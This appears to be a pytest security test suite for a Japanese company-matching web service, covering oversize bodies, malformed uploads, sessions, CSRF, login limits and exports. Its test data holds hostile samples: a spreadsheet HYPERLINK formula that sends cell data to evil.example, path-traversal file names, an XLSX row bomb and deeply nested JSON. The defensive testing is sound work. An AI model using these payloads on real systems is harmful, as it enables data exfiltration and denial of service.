"""Hostile and careless input, as the probe of the service sent it: each gets a 4xx with a Japanese
message (or a row error inside an otherwise good import), bounded memory, and nothing half-stored."""

import io
import json
import re
import socket
import time
import zipfile

import pytest
from fastapi.testclient import TestClient
from sqlmodel import func, select

from matcher.store.db import session_scope
from matcher.store.tables import Decision, Document, Organization, Suggestion
from tests.conftest import FIXTURES

PASSWORD = "correct-horse-battery"
HEADER = "企業ID,企業名,種別,所在地,従業員数,業種コード,加工・技術,認証,技術紹介,メール,メール配信\n"
JAPANESE = re.compile(r"[\u3040-\u30ff\u4e00-\u9fff]")


@pytest.fixture()
def desk(tmp_path, monkeypatch):
    """A fresh installation with the small fixture organisations (no index) and one user per role."""
    from api.app import create_app
    from matcher.config import Settings
    from matcher.exchange.catalog import import_file
    from matcher.services.auth import create_user
    from matcher.store.db import get_engine, upgrade

    settings = Settings(data_dir=tmp_path / "data")
    settings.ensure_dirs()
    engine = get_engine(settings.sqlalchemy_url)
    upgrade(engine)
    import_file(engine, FIXTURES / "orgs_small.csv", "organizations")
    for email, role, org in (("admin@example.jp", "admin", None), ("coord@example.jp", "coordinator", None),
                             ("company@example.jp", "company", "T001")):
        create_user(engine, email, role, PASSWORD, org)
    app = create_app(settings)
    with TestClient(app) as client:
        yield {"client": client, "engine": engine, "settings": settings, "app": app}
    app.state.matcher.jobs.wait(60)
    engine.dispose()


def bearer(client, email="coord@example.jp"):
    r = client.post("/api/token", json={"email": email, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def page_login(client, email="coord@example.jp"):
    client.get("/login")
    csrf = client.cookies.get("matcher_login_csrf")
    r = client.post("/login", data={"email": email, "password": PASSWORD, "csrf_token": csrf}, follow_redirects=False)
    assert r.status_code == 303, r.text
    return client.cookies.get("matcher_session")


def org_count(engine):
    with session_scope(engine) as s:
        return s.exec(select(func.count()).select_from(Organization)).one()


def upload(client, headers, name, data, kind="organizations"):
    return client.post(f"/api/import?kind={kind}", files={"file": (name, data, "application/octet-stream")},
                       headers=headers)


def assert_japanese_4xx(r, status=None):
    assert 400 <= r.status_code < 500, (r.status_code, r.text[:300])
    if status:
        assert r.status_code == status, (r.status_code, r.text[:300])
    assert JAPANESE.search(r.text), r.text[:300]


# -- request bodies ---------------------------------------------------------------------------------
def _rss_mb() -> float:
    with open("/proc/self/statm") as fh:
        return int(fh.read().split()[1]) * 4096 / 2**20


def _complete(response: bytes) -> bool:
    head, sep, body = response.partition(b"\r\n\r\n")
    length = re.search(rb"content-length: (\d+)", head, re.IGNORECASE)
    return bool(sep) and length is not None and len(body) >= int(length.group(1))


def test_a_chunked_body_is_cut_at_the_limit_with_bounded_memory(live_server):
    """No Content-Length, 64 MiB announced by nothing: the server answers 413 after ~1 MiB."""
    host, port = live_server["url"].removeprefix("http://").split(":")
    before = _rss_mb()
    sock = socket.create_connection((host, int(port)), timeout=10)
    sock.sendall(b"POST /api/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                 b"Transfer-Encoding: chunked\r\n\r\n")
    chunk = b"[" * 65536
    sent, response = 0, b""
    import select as sel

    try:
        while sent < 64 * 2**20:
            sock.sendall(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
            sent += len(chunk)
            if sel.select([sock], [], [], 0)[0]:
                break
    except (BrokenPipeError, ConnectionResetError):
        pass
    deadline = time.time() + 10
    while time.time() < deadline and not _complete(response):
        try:
            part = sock.recv(65536)
        except (ConnectionResetError, TimeoutError):
            break
        if not part:
            break
        response += part
    sock.close()
    assert response.startswith(b"HTTP/1.1 413"), response[:200]
    assert "大きすぎます".encode() in response
    assert sent < 8 * 2**20  # stopped long before the 64 MiB the client would have sent
    assert _rss_mb() - before < 64


def test_declared_and_streamed_oversize_bodies_get_413(desk):
    c = desk["client"]
    r = c.post("/api/token", content=b"{" + b" " * (2 * 2**20) + b"}", headers={"Content-Type": "application/json"})
    assert_japanese_4xx(r, 413)
    assert r.headers["content-security-policy"].startswith("default-src 'self'")

    def gen():
        for _ in range(40):
            yield b" " * 65536

    r = c.post("/api/token", content=gen(), headers={"Content-Type": "application/json"})
    assert_japanese_4xx(r, 413)


# -- careless and hostile files --------------------------------------------------------------------
def _xlsx(rows, dimension=None, extra_row_xml=""):
    from openpyxl import Workbook

    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                if dimension:
                    text = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>', text)
                text = text.replace("</sheetData>", extra_row_xml + "</sheetData>")
                data = text.encode()
            z.writestr(item, data)
    return out.getvalue()


def test_an_xlsx_claiming_a_million_rows_is_refused_without_allocating_them(desk):
    import tracemalloc

    from matcher.errors import FileError
    from matcher.exchange.ingest import parse_file

    bomb = _xlsx([HEADER.strip().split(","), ["X1", "名前（架空）"]], dimension="A1:XFD1048576",
                 extra_row_xml='<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')
    assert len(bomb) < 20_000
    path = desk["settings"].data_dir / "bomb.xlsx"
    path.write_bytes(bomb)
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(FileError, match="too many rows"):
        parse_file(path, "organizations")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 200 * 2**20 and time.perf_counter() - started < 30
    before = org_count(desk["engine"])
    assert_japanese_4xx(upload(desk["client"], bearer(desk["client"]), "bomb.xlsx", bomb), 422)
    assert org_count(desk["engine"]) == before


def test_an_xlsx_with_a_declared_huge_dimension_but_few_rows_still_imports(desk):
    ok = _xlsx([HEADER.strip().split(","), ["X2", "寸法だけ大きい（架空）"]], dimension="A1:XFD1048576")
    r = upload(desk["client"], bearer(desk["client"]), "dim.xlsx", ok)
    assert r.status_code == 200 and r.json()["inserted"] == 1, r.text


@pytest.mark.parametrize("name,data", [
    ("broken-sheet.xlsx", "xml"),
    ("utf16-odd.csv", (HEADER + "X1,名前\n").encode("utf-16") + b"\x00"),
    ("bom-bad.csv", b"\xef\xbb\xbf" + HEADER.encode() + b"X1,\xff\xfe\n"),
    ("nested.json", b"[" * 100_000 + b"]" * 100_000),
])
def test_unreadable_files_are_422_and_store_nothing(desk, name, data):
    if data == "xml":
        good = _xlsx([HEADER.strip().split(","), ["X1", "名前"]])
        src = zipfile.ZipFile(io.BytesIO(good))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            for item in src.infolist():
                body = src.read(item.filename)
                z.writestr(item, body[: len(body) // 2] if item.filename == "xl/worksheets/sheet1.xml" else body)
        data = out.getvalue()
    before = org_count(desk["engine"])
    r = upload(desk["client"], bearer(desk["client"]), name, data)
    assert_japanese_4xx(r, 422)
    assert "/tmp" not in r.text and str(desk["settings"].data_dir) not in r.text
    assert org_count(desk["engine"]) == before


def test_absurd_numbers_are_row_errors_in_a_good_import(desk):
    csv_text = HEADER + ("N1,一（架空）,企業,日野市,1.5e400,2599,,,,,いいえ\n"
                         "N2,二（架空）,企業,日野市,10^20,2599,,,,,いいえ\n"
                         "N3,三（架空）,企業,日野市,12,2599,,,,,いいえ\n")
    r = upload(desk["client"], bearer(desk["client"]), "numbers.csv", csv_text.encode())
    assert r.status_code == 200, r.text
    out = r.json()
    assert out["inserted"] == 1 and {(e["row"], e["field"]) for e in out["rejected"]} == {(2, "employees"), (3, "employees")}
    records = [{"企業ID": "J1", "企業名": "桁（架空）", "従業員数": "__BIG__"},
               {"企業ID": "J2", "企業名": "指数（架空）", "資本金": 10**25},
               {"企業ID": "J3", "企業名": "普通（架空）", "従業員数": 30}]
    body = json.dumps(records, ensure_ascii=False).replace('"__BIG__"', "9" * 5000).encode()
    r = upload(desk["client"], bearer(desk["client"]), "numbers.json", body)
    assert r.status_code == 200, r.text
    assert r.json()["inserted"] == 1 and {e["field"] for e in r.json()["rejected"]} == {"employees", "capital"}


@pytest.mark.parametrize("filename", ["..", "a" * 300 + ".csv", "../../etc/passwd", "名前\x00.csv"])
def test_any_upload_file_name_is_safe(desk, filename):
    r = upload(desk["client"], bearer(desk["client"]), filename, (HEADER + "F1,ファイル名（架空）\n").encode())
    assert r.status_code == 200, r.text
    assert len(r.json()["file"]) <= 100 and "/" not in r.json()["file"] and "\x00" not in r.json()["file"]


def test_a_huge_profile_cell_is_a_row_error_not_minutes_of_cpu(desk):
    started = time.perf_counter()
    csv_text = HEADER + "P1,長文（架空）,企業,日野市,5,2599,,," + "切削" * 50_000 + ",,いいえ\nP2,短文（架空）\n"
    r = upload(desk["client"], bearer(desk["client"]), "long.csv", csv_text.encode())
    assert r.status_code == 200 and r.json()["inserted"] == 1, r.text
    assert [e["field"] for e in r.json()["rejected"]] == ["profile"] and "長すぎます" in r.text
    assert time.perf_counter() - started < 20


def test_an_import_of_many_bad_rows_answers_briefly_and_offers_the_full_csv(desk):
    c = desk["client"]
    bad = HEADER + "".join(f"B{i},,企業\n" for i in range(300))
    r = upload(c, bearer(c), "bad.csv", bad.encode())
    out = r.json()
    assert r.status_code == 200 and out["rejected_count"] == 300 and len(out["rejected"]) == 100
    assert len(r.content) < 200_000
    assert "/" not in (out["rejects_file"] or "") and str(desk["settings"].data_dir) not in r.text
    full = c.get(out["rejects_url"], headers=bearer(c))
    assert full.status_code == 200 and full.content.decode("utf-8-sig").count("\n") == 301
    assert c.get("/api/import/reports/..%2Fsecret.key", headers=bearer(c)).status_code in (404, 422)


def test_old_import_reports_are_pruned(desk):
    from matcher.exchange.catalog import KEEP_REPORTS

    reports = desk["settings"].data_dir / "reports"
    reports.mkdir(parents=True, exist_ok=True)
    for i in range(KEEP_REPORTS + 20):
        (reports / f"old-{i}.report.json").write_text("{}")
    upload(desk["client"], bearer(desk["client"]), "again.csv", (HEADER + "R1,報告（架空）\n").encode())
    assert len(list(reports.iterdir())) <= KEEP_REPORTS


def test_api_values_beyond_any_real_size_are_422(desk):
    c = desk["client"]
    r = c.post("/api/organizations", json={"external_id": "C30", "name": "大資本（架空）", "capital": 10**30},
               headers=bearer(c))
    assert_japanese_4xx(r, 422)
    assert any(e["field"] == "capital" for e in r.json()["detail"]["errors"])
    r = c.post("/api/organizations", json={"external_id": "C31", "name": {"nested": "object"}}, headers=bearer(c))
    assert_japanese_4xx(r, 422)


def test_invisible_and_direction_characters_are_removed(desk):
    c = desk["client"]
    r = c.post("/api/organizations", json={"external_id": "Z1", "name": "日野\u200b精\u202e密\x00（架空）",
                                           "profile": "ステン\u200bレスの切削"}, headers=bearer(c))
    assert r.status_code == 201, r.text
    assert r.json()["organization"]["name"] == "日野精密(架空)"
    assert r.json()["organization"]["profile"] == "ステンレスの切削"
    found = c.get("/api/organizations", params={"q": "日野精密"}, headers=bearer(c)).json()
    assert [o["external_id"] for o in found["items"]] == ["Z1"]


def test_patch_can_clear_a_field(desk):
    c = desk["client"]
    with session_scope(desk["engine"]) as s:
        org = s.exec(select(Organization).where(Organization.external_id == "T001")).one()
    r = c.patch(f"/api/organizations/{org.id}", json={"city": None}, headers=bearer(c))
    assert r.status_code == 200 and r.json()["organization"]["city"] is None, r.text


# -- forms write nothing when any field is bad -------------------------------------------------------
def _suggestion(engine) -> int:
    with session_scope(engine) as s:
        sug = Suggestion(run_id="r", query_type="need", query_id=1, candidate_type="organization", candidate_id=1,
                         kind="partner", rank=1, score=0.5, model_version="cold-start-v1")
        s.add(sug)
        s.flush()
        return sug.id


def test_the_decision_form_validates_before_it_writes(desk):
    c, engine = desk["client"], desk["engine"]
    page_login(c)
    sid = _suggestion(engine)
    page = c.get("/needs")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    r = c.post(f"/suggestions/{sid}/decision", data={"csrf_token": csrf, "verdict": "accept", "need_id": "²"},
               follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/needs"
    r = c.post(f"/suggestions/{sid}/decision", data={"csrf_token": csrf, "verdict": "たぶん", "need_id": "1"},
               follow_redirects=False, headers={"Accept": "text/html"})
    assert_japanese_4xx(r, 422)
    with session_scope(engine) as s:
        assert len(s.exec(select(Decision).where(Decision.suggestion_id == sid)).all()) == 1
    r = c.post("/needs/2147483647/shortlist", data={"csrf_token": csrf}, headers={"Accept": "text/html"})
    assert r.status_code in (404, 409) and "<html" in r.text and JAPANESE.search(r.text)


def test_pages_never_show_free_text_from_the_query_string(desk):
    c = desk["client"]
    page_login(c)
    with session_scope(desk["engine"]) as s:
        from matcher.store.tables import Need

        s.add(Need(external_id="Q1", org_id=1, title="件名", text="内容"))
    need_id = c.get("/api/needs", headers=bearer(c)).json()["items"][0]["id"]
    r = c.get(f"/needs/{need_id}", params={"message": "偽のお知らせ: http://evil.example"})
    assert r.status_code == 200 and "evil.example" not in r.text


# -- sessions ----------------------------------------------------------------------------------------
def test_logout_revokes_the_cookie_and_the_bearer_token(desk):
    c = desk["client"]
    cookie = page_login(c)
    page = c.get("/needs")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    assert c.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
    c.cookies.clear()
    stolen = TestClient(desk["app"], cookies={"matcher_session": cookie})
    assert stolen.get("/needs", follow_redirects=False).status_code == 303  # back to the login page
    token = bearer(c)
    assert c.get("/api/needs", headers=token).status_code == 200
    assert c.post("/api/logout", headers=token).status_code == 204
    assert c.get("/api/needs", headers=token).status_code == 401


def test_admins_and_password_changes_revoke_sessions(desk):
    c = desk["client"]
    coord = bearer(c)
    admin = bearer(c, "admin@example.jp")
    from matcher.services.auth import find_user

    uid = find_user(desk["engine"], "coord@example.jp").id
    r = c.post(f"/api/users/{uid}/revoke-sessions", headers=admin)
    assert r.status_code == 200 and r.json()["revoked_sessions"] >= 1
    assert c.get("/api/needs", headers=coord).status_code == 401
    coord = bearer(c)
    r = c.post("/api/users/me/password", json={"current_password": PASSWORD, "new_password": "another-long-pass"},
               headers=coord)
    assert r.status_code == 200 and c.get("/api/needs", headers=coord).status_code == 401
    assert c.post("/api/token", json={"email": "coord@example.jp", "password": "another-long-pass"}).status_code == 200


def test_the_json_api_needs_a_csrf_header_with_a_cookie_session(desk):
    c = desk["client"]
    cookie = page_login(c)
    r = c.post("/api/organizations", json={"external_id": "CS1", "name": "クッキー（架空）"})
    assert_japanese_4xx(r, 403)
    r = c.post("/api/import", files={"file": ("o.csv", (HEADER + "CS2,フォーム（架空）\n").encode(), "text/csv")})
    assert_japanese_4xx(r, 403)
    csrf = desk["app"].state.matcher.tokens.csrf(cookie)
    r = c.post("/api/organizations", json={"external_id": "CS3", "name": "ヘッダー付き（架空）"},
               headers={"X-CSRF-Token": csrf})
    assert r.status_code == 201, r.text


# -- login limits and proxies ----------------------------------------------------------------------
def test_login_limits_use_the_normalised_account(desk):
    c = desk["client"]
    codes = [c.post("/api/token", json={"email": e, "password": "wrong-password"}).status_code
             for e in ("coord@example.jp", " coord@example.jp", "COORD@example.jp", "ｃｏｏｒｄ@example.jp",
                       "coord@example.jp ", "coord@example.jp")]
    assert codes[:5] == [401] * 5 and codes[5] == 429


def test_forwarded_for_is_believed_only_from_configured_proxies(tmp_path):
    from api.app import create_app
    from matcher.config import Settings

    def attempts(settings):
        with TestClient(create_app(settings)) as c:
            return [c.post("/api/token", json={"email": f"u{i}@example.jp", "password": "x"},
                           headers={"X-Forwarded-For": f"203.0.113.{i}"}).status_code for i in range(25)]

    untrusted = attempts(Settings(data_dir=tmp_path / "a"))
    assert 429 in untrusted  # one real address, however many it claims: the per-address limit applies
    trusted = attempts(Settings(data_dir=tmp_path / "b", trusted_proxies="*"))
    assert 429 not in trusted  # behind a configured proxy, each forwarded client has its own counter


# -- exports -----------------------------------------------------------------------------------------
def test_exports_neutralise_formulas_and_leave_no_files(desk):
    from openpyxl import load_workbook

    c, settings = desk["client"], desk["settings"]
    evil = '=HYPERLINK("http://evil.example/?"&A1;"click")'
    r = c.post("/api/organizations", json={"external_id": "EV1", "name": evil}, headers=bearer(c))
    assert r.status_code == 201, r.text
    before = sorted(p.name for p in settings.data_dir.iterdir())
    x = c.get("/api/export?format=xlsx", headers=bearer(c))
    assert x.status_code == 200
    ws = load_workbook(io.BytesIO(x.content))["企業"]
    cell = next(cell for row in ws.iter_rows() for cell in row if cell.value == evil)
    assert cell.data_type == "s"
    text = c.get("/api/export?format=csv&table=organizations", headers=bearer(c)).content.decode("utf-8-sig")
    assert "'" + evil.replace('"', '""') in text and "\n" + evil not in text and "," + evil not in text
    assert sorted(p.name for p in settings.data_dir.iterdir()) == before


def test_a_csv_export_reimports_unchanged(desk, tmp_path):
    from matcher.exchange.catalog import import_file
    from matcher.exchange.export import export

    c = desk["client"]
    c.post("/api/organizations", json={"external_id": "EV2", "name": "-5度の冷凍（架空）"}, headers=bearer(c))
    export(desk["engine"], tmp_path / "csv", "csv")
    again = import_file(desk["engine"], tmp_path / "csv" / "organizations.csv", "organizations")
    assert again.inserted == 0 and again.updated == 0 and not again.rejected


# -- headers -----------------------------------------------------------------------------------------
def test_security_headers_on_pages_errors_and_https(desk):
    c = desk["client"]
    for r in (c.get("/directory"), c.get("/api/needs"), c.get("/no-such-page")):
        assert "script-src 'self'" in r.headers["content-security-policy"]
        assert r.headers["referrer-policy"] == "same-origin" and r.headers["x-frame-options"] == "DENY"
    page_login(c)
    assert c.get("/needs").headers["cache-control"] == "no-store"
    assert "strict-transport-security" not in c.get("/directory").headers
    with TestClient(desk["app"], base_url="https://testserver") as s:
        s.get("/login")
        r = s.post("/login", data={"email": "coord@example.jp", "password": PASSWORD,
                                   "csrf_token": s.cookies.get("matcher_login_csrf")}, follow_redirects=False)
        assert "secure" in r.headers["set-cookie"].lower()
        assert r.headers["strict-transport-security"].startswith("max-age=")


def test_templates_have_no_inline_script():
    from pathlib import Path

    for t in (Path(__file__).parent.parent / "api" / "templates").glob("*.html"):
        text = t.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)", text) and not re.search(r"\son[a-z]+=", text), t.name


# -- indexing in the background ----------------------------------------------------------------------
def test_an_import_returns_before_indexing_and_the_job_catches_up(desk, embedder):
    from matcher.search.indexing import stale_documents

    c = desk["client"]
    r = upload(c, bearer(c), "new.csv", (HEADER + "IX1,索引テスト（架空）,企業,日野市,5,2599,切削,,チタンの切削,,いいえ\n").encode())
    assert r.status_code == 200 and r.json()["index"]["status"] == "queued", r.text
    job = desk["app"].state.matcher.jobs.wait(300)
    assert job.state == "done", job.error
    assert stale_documents(desk["engine"]) == 0
    status = c.get("/api/index/status", headers=bearer(c)).json()
    assert status["state"] == "done" and status["stale_documents"] == 0


def test_a_crash_after_storing_is_repaired_at_start_up(tmp_path, embedder):
    """kill -9 between the import's commit and the indexing: rows stored, never indexed."""
    from api.app import create_app
    from matcher.config import Settings
    from matcher.exchange.catalog import import_file
    from matcher.search.indexing import stale_documents
    from matcher.store.db import get_engine, upgrade

    settings = Settings(data_dir=tmp_path / "crash")
    settings.ensure_dirs()
    engine = get_engine(settings.sqlalchemy_url)
    upgrade(engine)
    import_file(engine, FIXTURES / "orgs_small.csv", "organizations")  # stored; the indexer never ran
    assert stale_documents(engine) > 0
    app = create_app(settings)  # start-up finds the stale documents and queues a job
    job = app.state.matcher.jobs.wait(300)
    assert job is not None and job.params["reason"] == "repair" and job.state == "done", job
    assert stale_documents(engine) == 0
    with session_scope(engine) as s:
        assert all(d.indexed_hash == d.content_hash for d in s.exec(select(Document)))


def test_rq_workers_share_the_queue_through_redis(tmp_path, embedder):
    from redis import Redis
    from rq import Queue, SimpleWorker

    from matcher.config import Settings
    from matcher.exchange.catalog import import_file
    from matcher.infra.jobs import QUEUE
    from matcher.search.indexing import stale_documents
    from matcher.services.jobs import IndexJobs
    from matcher.store.db import get_engine, upgrade

    settings = Settings(data_dir=tmp_path / "rq", redis_url="redis://127.0.0.1:6379/0")
    settings.ensure_dirs()
    engine = get_engine(settings.sqlalchemy_url)
    upgrade(engine)
    import_file(engine, FIXTURES / "orgs_small.csv", "organizations")
    redis = Redis.from_url(settings.redis_url)
    queue = Queue(QUEUE, connection=redis)
    queue.empty()
    jobs = IndexJobs(engine, settings, lambda: embedder)
    job = jobs.enqueue("import")
    assert jobs.enqueue("import again").id == job.id  # a queued job is reused, not duplicated
    # The worker process reads its settings from the environment, as `matcher worker` would.
    import os

    old = {k: os.environ.get(k) for k in ("MATCHER_DATA_DIR", "MATCHER_REDIS_URL")}
    os.environ.update(MATCHER_DATA_DIR=str(settings.data_dir), MATCHER_REDIS_URL=settings.redis_url)
    from matcher.config import get_settings

    get_settings.cache_clear()
    try:
        SimpleWorker([queue], connection=redis).work(burst=True)
    finally:
        for k, v in old.items():
            os.environ.pop(k, None) if v is None else os.environ.__setitem__(k, v)
        get_settings.cache_clear()
    assert jobs.latest().state == "done" and stale_documents(engine) == 0


def test_promoting_the_active_version_is_a_conflict(desk):
    r = desk["client"].post("/api/models/cold-start-v1/promote", headers=bearer(desk["client"], "admin@example.jp"))
    assert_japanese_4xx(r, 409)


def test_a_bug_is_a_japanese_500_with_the_security_headers(desk, monkeypatch):
    from matcher.services import directory

    def broken(*_a, **_k):
        raise RuntimeError("a bug")

    monkeypatch.setattr(directory, "directory_search", broken)
    with TestClient(desk["app"], raise_server_exceptions=False) as c:
        r = c.get("/directory", headers={"Accept": "text/html"})
    assert r.status_code == 500 and "内部エラー" in r.text and "a bug" not in r.text
    assert "script-src 'self'" in r.headers["content-security-policy"]


# -- text enters cleaned, wherever it enters --------------------------------------------------------
def test_unicode_line_breaks_and_c1_controls_are_cleaned_at_every_entry(desk, tmp_path):
    from matcher.exchange.catalog import import_file
    from matcher.learn.decisions import record_company_reply
    from matcher.services import forum
    from matcher.store.tables import Need

    engine, c = desk["engine"], desk["client"]
    nasty = "\u2028\x85\u2029\x9b\x0b"
    (tmp_path / "o.csv").write_text(f"企業ID,企業名\nL1,改行{nasty}工業（架空）\n", encoding="utf-8")
    assert not import_file(engine, tmp_path / "o.csv", "organizations").rejected
    r = c.post("/api/organizations", json={"external_id": "L2", "name": f"API{nasty}精機（架空）"}, headers=bearer(c))
    assert r.status_code == 201, r.text
    org_id = r.json()["organization"]["id"]
    r = c.patch(f"/api/organizations/{org_id}", json={"city": f"日野{nasty}市"}, headers=bearer(c))
    assert r.status_code == 200, r.text
    (tmp_path / "n.csv").write_text(f"案件ID,企業ID,件名,内容\nLN,L1,件名{nasty}です,本文\n", encoding="utf-8")
    assert not import_file(engine, tmp_path / "n.csv", "needs").rejected
    event = forum.create_event(engine, f"第1回{nasty}フォーラム")
    with session_scope(engine) as s:
        need = s.exec(select(Need).where(Need.external_id == "LN")).one()
        sug = Suggestion(run_id="l", query_type="need", query_id=need.id, candidate_type="organization",
                         candidate_id=org_id, kind="partner", rank=1, score=0.5, model_version="cold-start-v1")
        s.add(sug)
        s.flush()
        sid = sug.id
    record_company_reply(engine, sid, "interested", f"よろしく{nasty}お願いします", "x", org_id)
    with session_scope(engine) as s:
        texts = [o.name for o in s.exec(select(Organization).where(Organization.external_id.in_(["L1", "L2"])))]
        texts += [s.get(Organization, org_id).city, s.exec(select(Need.title).where(Need.external_id == "LN")).one(),
                  event.name, s.exec(select(Decision.comment).where(Decision.kind == "company_reply")).one()]
    for t in texts:
        assert not any(ch in t for ch in "\u2028\x85\u2029\x9b\x0b\r"), repr(t)
    assert not any("\n" in t for t in texts[:-1])  # one-line fields; only the comment keeps its breaks, as LF
    assert texts[0] == "改行 工業(架空)" and texts[2] == "日野 市"


# -- decisions carry the server's time ----------------------------------------------------------------
def test_a_client_never_dates_a_decision_and_imports_are_bounded(desk, tmp_path):
    from datetime import UTC, datetime, timedelta

    from matcher.learn.decisions import import_feedback

    c, engine = desk["client"], desk["engine"]
    sid = _suggestion(engine)
    before = datetime.now(UTC)
    r = c.post("/api/decisions", json={"suggestion_id": sid, "verdict": "accept", "decided_at": "9999-12-31T23:59:59",
                                       "coordinator": "someone-else"}, headers=bearer(c))
    assert r.status_code == 201, r.text
    with session_scope(engine) as s:
        dec = s.get(Decision, r.json()["decision_id"])
    assert before - timedelta(seconds=1) <= dec.decided_at <= datetime.now(UTC) and dec.coordinator == "coord@example.jp"
    (tmp_path / "f.csv").write_text(
        "提案ID,判定,判定日時\n"
        f"{sid},承認,9999-12-31 23:59:59\n{sid},却下,2021-05-01 10:00\n{sid},承認,2026-11-30 10:00\n", encoding="utf-8")
    report = import_feedback(engine, tmp_path / "f.csv")
    assert report.inserted == 1 and [(e.row, e.field) for e in report.rejected] == [(2, "decided_at"), (3, "decided_at")]
    assert all("計画開始" in e.message_ja for e in report.rejected)
    with session_scope(engine) as s:
        imported = s.exec(select(Decision).where(Decision.suggestion_id == sid).order_by(Decision.id.desc())).first()
    assert imported.decided_at == datetime(2026, 11, 30, 1, 0, tzinfo=UTC)  # typed in Japan time


def test_kpi_and_history_never_fail_on_a_stored_date(desk):
    from datetime import UTC, datetime

    from matcher.services.kpi import kpi_report
    from matcher.store.tables import Need

    c, engine = desk["client"], desk["engine"]
    sid = _suggestion(engine)
    with session_scope(engine) as s:  # written by hand, or by a version before the bound
        s.add(Decision(suggestion_id=sid, verdict="accept", decided_at=datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)))
        s.add(Need(external_id="K1", org_id=1, title="件名", text="内容"))
    assert kpi_report(engine).as_json()["years"] is not None
    page_login(c)
    for path in ("/kpi", "/kpi.xlsx"):
        assert c.get(path).status_code == 200, path
    need_id = c.get("/api/needs", headers=bearer(c)).json()["items"][0]["id"]
    assert c.get(f"/needs/{need_id}").status_code == 200


def test_a_future_dated_decision_stored_before_the_bound_is_repaired_by_the_upgrade(bare_engine):
    from sqlalchemy import text

    from matcher.store.db import upgrade

    upgrade(bare_engine, "0007")
    with bare_engine.begin() as conn:
        conn.execute(text("INSERT INTO suggestion (run_id, query_type, query_id, candidate_type, candidate_id, kind, rank, "
                          "score, model_version, features, explanation, created_at) VALUES ('r', 'need', 1, 'organization',"
                          " 2, 'partner', 1, 0.5, 'cold-start-v1', '{}', '', '2026-11-30 00:00:00')"))
        conn.execute(text("INSERT INTO decision (suggestion_id, kind, verdict, decided_at, created_at) VALUES "
                          "(1, 'coordinator', 'accept', '9999-12-31 23:59:59', '2026-11-30 01:00:00')"))
    upgrade(bare_engine)
    with session_scope(bare_engine) as s:
        dec = s.exec(select(Decision)).one()
    assert dec.decided_at == dec.created_at


def test_the_password_change_shares_the_login_limits(desk):
    c = desk["client"]
    hdr = bearer(c, "company@example.jp")
    codes = [c.post("/api/users/me/password", json={"current_password": f"wrong-{i}", "new_password": "x" * 12},
                    headers=hdr).status_code for i in range(8)]
    assert codes[:5] == [403] * 5 and set(codes[5:]) == {429}, codes
    r = c.post("/api/users/me/password", json={"current_password": PASSWORD, "new_password": "y" * 12}, headers=hdr)
    assert_japanese_4xx(r, 429)  # even the right password waits: the guessing is what is limited


# -- what a person sees --------------------------------------------------------------------------------
def test_bad_url_values_get_the_japanese_page_in_a_browser_and_json_on_the_api(desk):
    c = desk["client"]
    page_login(c)
    html = {"Accept": "text/html"}
    r = c.get("/directory", params={"page": "abc"}, headers=html)
    assert r.status_code == 422 and "<html" in r.text and "アドレス" in r.text and "int_parsing" not in r.text
    r = c.get("/needs/abc", headers=html)
    assert r.status_code == 404 and "<html" in r.text and JAPANESE.search(r.text) and "detail" not in r.text
    r = c.get("/api/needs/abc", headers=bearer(c))
    assert r.status_code == 422 and r.headers["content-type"].startswith("application/json")


def test_pages_show_japan_time_and_no_raw_codes(desk):
    from datetime import UTC, datetime

    from matcher.learn.decisions import drop_group_member
    from matcher.store.tables import AuditLog, Need

    c, engine = desk["client"], desk["engine"]
    with session_scope(engine) as s:
        need = Need(external_id="J1", org_id=1, title="時刻の確認", text="内容")
        s.add(need)
        s.flush()
        sug = Suggestion(run_id="j", query_type="need", query_id=need.id, candidate_type="organization", candidate_id=2,
                         kind="partner", rank=1, score=0.5, model_version="cold-start-v1")
        group = Suggestion(run_id="j2", query_type="need", query_id=need.id, candidate_type="group", candidate_id=2,
                           kind="group", rank=1, score=0.4, model_version="cold-start-v1",
                           members=[{"org_id": 2, "role": "lead", "covers": ["板金"], "features": {}},
                                    {"org_id": 3, "role": "member", "covers": ["塗装"], "features": {}}])
        s.add_all([sug, group])
        s.flush()
        s.add(Decision(suggestion_id=sug.id, verdict="accept", coordinator="coord@example.jp",
                       decided_at=datetime(2026, 12, 1, 20, 6, tzinfo=UTC)))
        s.add(AuditLog(action="outcomes_import", target="outcomes.csv", detail={"inserted": 2, "rejected": 0}))
        need_id, group_id = need.id, group.id
    drop_group_member(engine, group_id, 3, "coord@example.jp")
    page_login(c, "admin@example.jp")
    page = c.get(f"/needs/{need_id}").text
    assert "2026年12月2日 05:06" in page  # 20:06 UTC is 05:06 the next morning in Japan
    assert "cold-start" not in page and "初期設定の重み" in page
    assert "共同受注グループ: " in page and "をグループから外した" in page and ">3<" not in page
    audit = c.get("/admin/audit").text
    assert "成果指標の取り込み" in audit and "グループから企業を外す" in audit and "追加: 2" in audit
    assert "outcomes_import" not in audit and "group_drop" not in audit and '{"' not in audit
